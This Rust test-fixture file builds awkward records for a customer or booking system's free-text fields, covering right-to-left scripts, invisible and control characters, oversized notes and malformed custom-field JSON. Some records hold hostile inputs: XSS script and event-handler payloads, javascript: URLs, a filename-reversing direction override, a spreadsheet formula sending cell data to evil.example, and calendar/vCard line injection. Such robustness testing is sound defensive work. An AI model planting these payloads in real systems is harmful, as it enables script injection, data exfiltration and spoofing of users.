//! 40 to 59: what stands in texts.

use super::Awkward;
use super::usual::Usual;
use crate::data::custom_fields;
use crate::data::document::Json;

/// The records with the same strange text in every free field, their customers' telephone numbers included.
pub const STRANGE: std::ops::RangeInclusive<u64> = 42..=53;

/// The fields that strangers or colleagues type freely.
const FREE: [&str; 14] = [
    "Name",
    "CoworkerFullName",
    "CoworkerCompanyName",
    "CoworkerEmail",
    "TeamName",
    "TeamDescription",
    "TeamProfileWebsite",
    "Notes",
    "UtmSource",
    "UtmMedium",
    "UtmCampaign",
    "UtmContent",
    "UtmTerm",
    "SystemId",
];

/// In every free text: Id, name, what is awkward, the JSON text.
const EVERYWHERE: [(u64, &str, &str, &str); 11] = [
    (42, "Hostile markup", "scripts and event handlers", MARKUP),
    (
        43,
        "Hostile URLs",
        "a URL that runs",
        r#""javascript:alert(document.domain)""#,
    ),
    (
        44,
        "Direction overrides",
        "controls that turn `gpj.exe` round",
        r#""Desk \u202egpj.exe\u2066 x \u202dy\u200f""#,
    ),
    (
        45,
        "Nothing to see",
        "zero-width characters only",
        r#""\u200b\u200c\u200d\ufeff\u2060\u00ad""#,
    ),
    (
        46,
        "Lone surrogates",
        "escapes of half a character",
        r#""Half \ud83d and \udc00, whole \ud83d\ude00""#,
    ),
    (
        47,
        "Control characters",
        "NUL, bell, escape, and others",
        r#""nul \u0000 bell \u0007 esc \u001b[31m \u000b cr \r.""#,
    ),
    (
        49,
        "Emoji and marks",
        "joined families, flags, letters under marks",
        ZALGO,
    ),
    (
        50,
        "Formulas",
        "what a spreadsheet would compute",
        r#""=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")""#,
    ),
    (
        51,
        "Line injection",
        "lines that mean something in .ics and .vcf",
        r#""Desk\r\nEND:VEVENT\r\nATTENDEE:mailto:x@evil.example\r\n""#,
    ),
    (52, "Empty texts", "texts that are there and empty", r#""""#),
    (
        53,
        "Blank texts",
        "spaces and line breaks",
        r#"" \n\t\r\n \u00a0 ""#,
    ),
];

/// The records.
pub fn records(usual: &Usual) -> Vec<Awkward> {
    let everywhere = |id, name, why, text: Json| {
        usual.record(id, name, why, FREE.map(|field| (field, text.clone())))
    };
    let mut records: Vec<_> = EVERYWHERE
        .map(|(id, name, why, text)| everywhere(id, name, why, Json::raw(text)))
        .into();
    records.push(everywhere(
        48,
        "One long word",
        "2,000 letters without a space",
        "Donaudampfschifffahrt".repeat(96).into(),
    ));
    records.extend(right_to_left(usual));
    records.extend(notes(usual));
    records.extend(custom(usual));
    records
}

fn right_to_left(usual: &Usual) -> Vec<Awkward> {
    let rows = [
        (
            40,
            "Right to left, Arabic",
            "with Latin letters and both kinds of digits",
            ARABIC,
        ),
        (
            41,
            "Right to left, Hebrew",
            "with Latin letters and digits",
            HEBREW,
        ),
    ];
    rows.map(|(id, name, why, [title, customer, company])| {
        let notes = format!("{title}: {customer} ({company}), +44 20 7946 0123.");
        let fields = [
            ("Name", title.into()),
            ("CoworkerFullName", customer.into()),
            ("CoworkerCompanyName", company.into()),
            ("Notes", notes.into()),
        ];
        usual.record(id, name, why, fields)
    })
    .into()
}

fn notes(usual: &Usual) -> Vec<Awkward> {
    let paragraph = |number: u32| {
        format!(
            "Paragraph {number}: called, nobody there, again on Monday, see https://docs.example.com/{number}."
        )
    };
    let long: Vec<_> = (1..=2500).map(paragraph).collect();
    let rows = [
        (54, "200 kB of notes", "2,500 paragraphs", long.join("\n\n")),
        (
            55,
            "Notes as HTML",
            "from a template that is HTML",
            HTML.to_owned(),
        ),
        (
            56,
            "Notes as Markdown",
            "with headings, a list and a table",
            MARKDOWN.to_owned(),
        ),
        (
            59,
            "Text with entities",
            "escaped once too often",
            "Tom &amp; Jerry&nbsp;&#8211; 2 &lt; 3".to_owned(),
        ),
    ];
    rows.map(|(id, name, why, text)| usual.record(id, name, why, [("Notes", text.into())]))
        .into()
}

fn custom(usual: &Usual) -> [Awkward; 2] {
    let many = custom_fields::values((0..500).map(|number: u32| {
        let value = if number.is_multiple_of(50) {
            "A long answer. ".repeat(60)
        } else {
            format!("value {number}")
        };
        (format!("field_{number:03}"), value)
    }));
    let why = "missing JsonValue, null and repeated names, a number for a value";
    [
        usual.record(
            57,
            "500 custom fields",
            "500 of them, some long",
            [("CustomFields", many)],
        ),
        usual.record(
            58,
            "Odd custom fields",
            why,
            [("CustomFields", Json::raw(ODD_FIELDS))],
        ),
    ]
}

const ARABIC: [&str; 3] = [
    "مكتب لاثني عشر شخصًا",
    "فاطمة الصباح",
    "شركة الخليج للهندسة (London) ٢٠٢٦",
];
const HEBREW: [&str; 3] = ["משרד ל-12 איש, קומה 3", "יעל כהן", "כהן & בניו Ltd."];
const ZALGO: &str = "\"👩‍👩‍👧‍👦 🏳️‍🌈 🇬🇧 1️⃣ Z̸̢̛̗̈́a̷̡̛͓̐l̵̛̪̈́g̶̨̛̽o̷̢͊ ﷽\"";
const MARKUP: &str = r#""<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"><svg/onload=alert(1)><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>\"'><b>bold</b>{{7*7}}${7*7}""#;
const HTML: &str = "<h2>Enquiry</h2>
<p>Wants <strong>twelve</strong> desks &amp; a <em>quiet</em> room.<br>From&nbsp;May.</p>
<ul><li>Bikes</li><li>Showers</li></ul>
<p><a href=\"https://docs.example.com/brief\">Brief</a> <a href=\"javascript:alert(1)\">Click</a></p>
<script>document.title='owned'</script><style>main{display:none}</style>";
const MARKDOWN: &str = "# Enquiry

* twelve **desks**
* a [brief](https://docs.example.com/brief)

| who | when |
|---|---|
| Ingrid | May |

> quiet, please
";
const ODD_FIELDS: &str = r#"{"Data":[
{"Name":"no_json_value","Value":"x","Type":"string"},
{"Name":null,"Value":"without a name"},
{"Name":"twice","Value":"first"},
{"Name":"twice","Value":"second"},
{"Name":"number","Value":12.50},
{"Name":"nothing","Value":null},
{"Name":"<b>bold</b>","Value":"<i>x</i>"},
{"Name":"1414363300","Value":"12","JsonValue":"{\"a\":1}","Type":"number"},
"no object",
null
],"More":1}"#;
